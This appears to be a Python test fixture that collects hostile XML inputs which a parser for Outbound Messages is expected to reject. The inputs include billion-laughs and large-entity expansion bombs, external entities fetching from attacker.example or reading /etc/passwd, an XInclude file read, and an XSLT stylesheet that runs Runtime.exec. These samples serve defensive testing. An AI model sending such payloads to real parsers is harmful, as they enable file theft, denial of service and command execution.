"""XML that harms a careless reader, and XML that is no Outbound Message. Neither is read."""

from tests import shared

_ENTITIES = {
    "a_few_entities": '<!DOCTYPE a [<!ENTITY x "text">]><a><b>&x;</b></a>',
    "entities_of_entities": "<!DOCTYPE a [<!ENTITY e0 'ha'>"
    + "".join(f"<!ENTITY e{n} '{f'&e{n - 1};' * 10}'>" for n in range(1, 12))
    + "]><a>&e11;</a>",
    "one_large_entity_many_times": f"<!DOCTYPE a [<!ENTITY x '{'x' * 100_000}'>]><a>{'&x;' * 20_000}</a>",
    "entities_in_a_circle": '<!DOCTYPE a [<!ENTITY x "1 &y;"><!ENTITY y "2 &x;">]><a>&x;</a>',
    "an_entity_from_elsewhere": '<!DOCTYPE a [<!ENTITY x SYSTEM "http://attacker.example/x.xml">]><a>&x;</a>',
    "an_entity_from_a_file": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "parameter_entities": '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://attacker.example/x.dtd"> %x;]><a/>',
}
_DOCUMENT_TYPES = {
    "a_document_type_from_elsewhere": '<!DOCTYPE a PUBLIC "-//A//A//EN" "http://attacker.example/a.dtd"><a>text</a>',
    "a_document_type_of_its_own": "<!DOCTYPE a [<!ELEMENT a (b)><!ELEMENT b (#PCDATA)>]><a><b>text</b></a>",
    "a_document_type_in_utf_16": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>',
}
_OTHER_DOCUMENTS = {
    "no_message": "<!-- a comment --><a b='c'>text<d/>tail</a>",
    "no_message_in_a_namespace": "<?instruction data?><a xmlns='urn:a'><b>text</b>tail</a>",
    "a_schema_that_includes_another": '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">'
    '<xs:import namespace="urn:a" schemaLocation="http://attacker.example/a.xsd"/></xs:schema>',
    "a_style_sheet_that_runs_a_command": '<xsl:stylesheet version="1.0" xmlns:run="http://xml.apache.org/xalan/java"'
    ' xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
    "<xsl:value-of select=\"run:java.lang.Runtime.exec('ls')\"/></xsl:template></xsl:stylesheet>",
    "an_inclusion_of_a_file": '<a xmlns:xi="http://www.w3.org/2001/XInclude">'
    '<xi:include href="file:///etc/passwd" parse="text"/></a>',
}


def _encoded(documents: dict[str, str]) -> dict[str, bytes]:
    return {name: text.encode("utf-16" if "UTF-16" in text else "utf-8") for name, text in documents.items()}


WITH_A_DOCUMENT_TYPE = _encoded(_ENTITIES | _DOCUMENT_TYPES)
ATTACKS = WITH_A_DOCUMENT_TYPE | _encoded(_OTHER_DOCUMENTS) | shared.files("xml-attacks")
